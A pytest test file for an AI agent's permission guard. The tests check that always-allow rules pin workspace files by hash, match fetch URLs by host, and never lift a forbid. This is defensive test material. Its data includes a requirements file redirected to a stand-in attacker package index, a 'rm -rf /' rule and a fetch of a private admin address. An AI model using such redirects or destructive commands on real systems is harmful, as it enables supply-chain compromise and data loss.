"""An always-allow rule grants exactly what was approved.

A shell rule names the content (sha256) of each workspace file its command reads or
runs, and stops matching when one changed: the call is asked again, saying which file
changed. A web_fetch rule written by "Always for this host" matches the URL's host; an
old exact-URL rule keeps matching its URL. No rule ever lifts a forbid.
"""

from __future__ import annotations

import hashlib
import re
import tomllib
from pathlib import Path
from typing import Any

import pytest
from structlog.testing import capture_logs

from bot.commands.policy import describe
from core.guardian import CallDecision, Guardian, Verdict
from core.guardian import guard as guard_module
from core.policy import PolicyError, parse_text, read_document, rule_match, url_host

A, P, F = Verdict.ALLOW, Verdict.APPROVAL, Verdict.FORBID


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home").mkdir()
    (tmp_path / "data").mkdir()
    ws = tmp_path / "ws"
    ws.mkdir()
    return ws


@pytest.fixture
def overlay(tmp_path: Path) -> Path:
    return tmp_path / "data" / "policy.toml"


def sha(text: str) -> str:
    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()


def shell(command: str) -> dict[str, Any]:
    return {"command": command}


def rules_on_disk(overlay: Path) -> list[dict[str, Any]]:
    return tomllib.loads(overlay.read_text())["always_allow"]


# ── shell rules name the files their command reads ────────────────────────────────


def test_a_rule_names_the_requirements_file_and_stops_matching_when_it_changes(
    ws: Path, overlay: Path
) -> None:
    (ws / "requirements.txt").write_text("httpx==0.27\n")
    g = Guardian(ws, overlay_path=overlay)
    call = shell("pip install -r requirements.txt")
    assert g.check_sync("shell", call).verdict == P
    rule = g.always_allow("shell", call, added_by="alice")
    [saved] = rules_on_disk(overlay)
    assert saved["reads"] == {"requirements.txt": sha("httpx==0.27\n")}
    assert 'reads = {"requirements.txt" = "sha256:' in overlay.read_text()  # one readable line
    assert g.check_sync("shell", call) == CallDecision(
        A, f"allowed by always-allow rule {rule}", ("network",)
    )

    # Another conversation points the file at a new host.
    (ws / "requirements.txt").write_text("--index-url https://evil.example/simple\nhttpx\n")
    with capture_logs() as logs:
        decision = g.check_sync("shell", call)
    assert decision.verdict == P and decision.needs == ("network",)
    assert decision.reason == (
        "`pip install -r requirements.txt` installs packages (always-allow rule "
        f"{rule} no longer matches because requirements.txt changed since it was allowed)"
    )
    assert [(e["event"], e["rule"], e["file"]) for e in logs] == [
        ("policy.rule_stale", rule, "requirements.txt")
    ]

    # Put back, it matches again; pressed again after a change, the rule is renewed.
    (ws / "requirements.txt").write_text("httpx==0.27\n")
    assert g.check_sync("shell", call).verdict == A
    (ws / "requirements.txt").write_text("httpx==0.28\n")
    assert g.always_allow("shell", call, added_by="bob") == rule
    [renewed] = rules_on_disk(overlay)
    assert renewed["reads"] == {"requirements.txt": sha("httpx==0.28\n")}
    assert renewed["added_by"] == "bob"
    assert renewed["reason"] == "`pip install -r requirements.txt` installs packages"
    assert g.check_sync("shell", call).verdict == A


def test_a_rule_for_a_script_names_the_script_and_what_it_includes(ws: Path, overlay: Path) -> None:
    (ws / "deploy.sh").write_text("echo v1 >> ../deployed.txt\n")
    (ws / "requirements.txt").write_text("-r base.txt\n-c pins/constraints.txt\n")
    (ws / "base.txt").write_text("httpx\n")
    (ws / "pins").mkdir()
    (ws / "pins" / "constraints.txt").write_text("httpx<1\n")
    g = Guardian(ws, overlay_path=overlay)
    deploy, install = shell("bash deploy.sh"), shell("pip install -r requirements.txt")
    for call in (deploy, install):
        g.always_allow("shell", call, added_by="alice")
        assert g.check_sync("shell", call).verdict == A
    deploy_rule, install_rule = rules_on_disk(overlay)
    assert deploy_rule["reads"] == {"deploy.sh": sha("echo v1 >> ../deployed.txt\n")}
    assert set(install_rule["reads"]) == {"requirements.txt", "base.txt", "pins/constraints.txt"}

    (ws / "deploy.sh").write_text("echo v2 >> ../deployed.txt\n")  # still only asks
    (ws / "pins" / "constraints.txt").write_text("httpx<2\n")
    stale_deploy = g.check_sync("shell", deploy)
    assert stale_deploy.verdict == P and "deploy.sh changed since it was allowed" in (
        stale_deploy.reason
    )
    assert stale_deploy.needs == g.check_sync("shell", deploy).needs  # what it asks for
    assert "pins/constraints.txt changed" in g.check_sync("shell", install).reason


def test_a_file_missing_when_allowed_is_named_missing(ws: Path, overlay: Path) -> None:
    """`bash gen.sh` allowed before gen.sh exists must not run what is written there later."""
    g = Guardian(ws, overlay_path=overlay)
    call = shell("bash gen.sh")
    assert g.check_sync("shell", call).verdict == P  # runs a file that does not exist yet
    g.always_allow("shell", call, added_by="alice")
    assert rules_on_disk(overlay)[0]["reads"] == {"gen.sh": "missing"}
    assert g.check_sync("shell", call).verdict == A
    (ws / "gen.sh").write_text("echo hi > ../x\n")
    assert "gen.sh changed since it was allowed" in g.check_sync("shell", call).reason


def test_rules_written_before_files_were_named_keep_matching(ws: Path, overlay: Path) -> None:
    (ws / "requirements.txt").write_text("httpx\n")
    overlay.write_text(
        "[[always_allow]]\nid = 'old1'\ntool = 'shell'\nmatch = 'pip install -r requirements.txt'\n"
    )
    g = Guardian(ws, overlay_path=overlay)
    call = shell("pip install -r requirements.txt")
    assert g.check_sync("shell", call).reason == "allowed by always-allow rule old1"
    (ws / "requirements.txt").write_text("something else\n")
    assert g.check_sync("shell", call).verdict == A
    assert g.always_allow("shell", call, added_by="alice") == "old1"  # nothing added
    assert len(rules_on_disk(overlay)) == 1


def test_a_stale_rule_never_turns_a_forbid_or_an_allow_into_something_else(
    ws: Path, overlay: Path
) -> None:
    overlay.write_text(
        "[[always_allow]]\nid = 'f1'\ntool = 'shell'\nmatch = 'rm -rf /'\n"
        f"reads = {{ 'x' = '{sha('x')}' }}\n"
        "[[always_allow]]\nid = 'a1'\ntool = 'shell'\nmatch = 'cat notes.md'\n"
        f"reads = {{ 'notes.md' = '{sha('old')}' }}\n"
    )
    g = Guardian(ws, overlay_path=overlay)
    assert g.check_sync("shell", shell("rm -rf /")).verdict == F
    allowed = g.check_sync("shell", shell("cat notes.md"))
    assert allowed.verdict == A and "always-allow" not in allowed.reason


def test_a_file_too_large_to_check_cannot_be_always_allowed(
    ws: Path, overlay: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(guard_module, "MAX_PINNED_BYTES", 10)
    (ws / "requirements.txt").write_text("x" * 11)
    g = Guardian(ws, overlay_path=overlay)
    with pytest.raises(ValueError, match=r"requirements\.txt is larger than .*approve it once"):
        g.always_allow("shell", shell("pip install -r requirements.txt"), added_by="alice")
    assert not overlay.exists()


def test_folders_and_words_known_only_at_run_time_are_not_named(ws: Path, overlay: Path) -> None:
    (ws / "pkg").mkdir()
    g = Guardian(ws, overlay_path=overlay)
    g.always_allow("shell", shell("pip install -r $REQS ./pkg"), added_by="alice")
    assert "reads" not in rules_on_disk(overlay)[0]


def test_the_session_pin_follows_the_files_content(ws: Path, overlay: Path) -> None:
    (ws / "deploy.sh").write_text("echo 1 > ../o\n")
    g = Guardian(ws, overlay_path=overlay)
    first = g.pin("shell", shell("bash deploy.sh"))
    assert first and first == g.pin("shell", shell("bash deploy.sh"))
    (ws / "deploy.sh").write_text("echo 2 > ../o\n")
    assert g.pin("shell", shell("bash deploy.sh")) not in (None, first)
    assert g.pin("shell", shell("echo hi")) == ""
    assert g.pin("web_fetch", {"url": "https://example.com"}) == ""


def test_policy_shows_the_files_a_rule_names(ws: Path, overlay: Path) -> None:
    (ws / "requirements.txt").write_text("httpx\n")
    g = Guardian(ws, overlay_path=overlay)
    rule = g.always_allow("shell", shell("pip install -r requirements.txt"), added_by="alice")
    text = describe(g.overlay_view())
    digest = sha("httpx\n")[: len("sha256:") + 12]
    assert f"  {rule}  shell `pip install -r requirements.txt` by alice" in text
    assert f"    while these files are unchanged: requirements.txt ({digest}…)" in text


@pytest.mark.parametrize(
    ("rule", "message"),
    [
        ("reads = { 'a' = 'md5:x' }", "`always_allow[1].reads`: 'md5:x' (for 'a') is not a file"),
        ("reads = 'a'", "`always_allow[1].reads`: must be a table"),
    ],
)
def test_a_hand_edited_reads_table_is_checked(rule: str, message: str) -> None:
    text = f"[[always_allow]]\ntool = 'shell'\nmatch = 'make'\n{rule}\n"
    with pytest.raises(PolicyError, match=re.escape(message)):
        parse_text(text, "t", overlay=True)


def test_reads_belong_to_shell_rules_and_hosts_must_be_hosts() -> None:
    with pytest.raises(PolicyError, match="a web_fetch rule cannot have it"):
        parse_text(
            "[[always_allow]]\ntool = 'web_fetch'\nmatch = 'host:a.example'\nreads = {}\n",
            "t",
            overlay=True,
        )
    with pytest.raises(PolicyError, match="is not a host name"):
        parse_text(
            "[[always_allow]]\ntool = 'web_fetch'\nmatch = 'host:a.example/path'\n",
            "t",
            overlay=True,
        )


# ── web_fetch rules match a host ──────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://Example.COM/a?b=1", "host:example.com"),
        ("https://example.com:443/", "host:example.com"),
        ("http://example.com:80/x", "host:example.com"),
        ("https://user:pw@example.com./x", "host:example.com"),
        ("https://example.com:8443/", "host:example.com:8443"),
        ("http://[::1]:8080/", "host:[::1]:8080"),
        ("ftp://example.com/", None),
        ("https://example.com:port/", None),
        ("not a url", None),
    ],
)
def test_the_host_a_web_fetch_rule_names(url: str, host: str | None) -> None:
    assert url_host(url) == host
    assert rule_match("web_fetch", {"url": url}) == host


def asks_for_hosts(g: Guardian, monkeypatch: pytest.MonkeyPatch) -> None:
    """The egress contract: a fetch is asked with `host:<name>` in its needs, and a
    private address is refused."""

    def check_fetch(url: Any, policy: Any = None, **_: Any) -> CallDecision:
        host = url_host(url) or "host:?"
        if "127.0.0.1" in url:
            return CallDecision(F, f"web_fetch `{url}` reaches a private address")
        return CallDecision(P, f"web_fetch reaches {host[5:]}, a host you did not name", (host,))

    monkeypatch.setattr(g, "check_fetch", check_fetch)


def test_always_for_this_host_allows_that_host_only(
    ws: Path, overlay: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    g = Guardian(ws, overlay_path=overlay)
    asks_for_hosts(g, monkeypatch)

    def fetch(url: str) -> CallDecision:
        return g.check_sync("web_fetch", {"url": url})

    assert fetch("https://docs.example.com/a").verdict == P
    rule = g.always_allow("web_fetch", {"url": "https://docs.example.com/a"}, added_by="alice")
    [saved] = read_document(overlay, overlay=True).always_allow
    assert (saved.match, saved.host, saved.reads) == (
        "host:docs.example.com",
        "docs.example.com",
        None,
    )
    for url in (
        "https://docs.example.com/other/path?q=1",
        "http://DOCS.example.com:80/",
        "https://docs.example.com:443/a",
    ):
        assert fetch(url) == CallDecision(
            A, f"allowed by always-allow rule {rule}", ("host:docs.example.com",)
        ), url
    for url in (
        "https://example.com/",
        "https://evil.docs.example.com/",
        "https://docs.example.com.evil.example/",
        "https://docs.example.com:8443/",
    ):
        assert fetch(url).verdict == P, url
    # The same host again is the same rule.
    assert g.always_allow("web_fetch", {"url": "https://docs.example.com/b"}, added_by="b") == rule
    assert len(rules_on_disk(overlay)) == 1
    assert f"  {rule}  web_fetch any URL on docs.example.com by alice" in describe(g.overlay_view())


def test_a_host_rule_never_lifts_a_forbid(
    ws: Path, overlay: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    overlay.write_text(
        "[[always_allow]]\nid = 'lo'\ntool = 'web_fetch'\nmatch = 'host:127.0.0.1'\n"
    )
    g = Guardian(ws, overlay_path=overlay)
    asks_for_hosts(g, monkeypatch)
    decision = g.check_sync("web_fetch", {"url": "http://127.0.0.1/admin"})
    assert decision.verdict == F and "a forbidden call is never allowed" in decision.reason
    with pytest.raises(ValueError, match="forbidden"):
        g.always_allow("web_fetch", {"url": "http://127.0.0.1/x"}, added_by="alice")


def test_an_old_exact_url_rule_keeps_matching_its_url_only(
    ws: Path, overlay: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    overlay.write_text(
        "[[always_allow]]\nid = 'url1'\ntool = 'web_fetch'\n"
        "match = 'https://example.com/feed.xml'\n"
    )
    g = Guardian(ws, overlay_path=overlay)
    asks_for_hosts(g, monkeypatch)
    assert g.check_sync("web_fetch", {"url": " https://example.com/feed.xml"}).verdict == A
    assert g.check_sync("web_fetch", {"url": "https://example.com/other"}).verdict == P
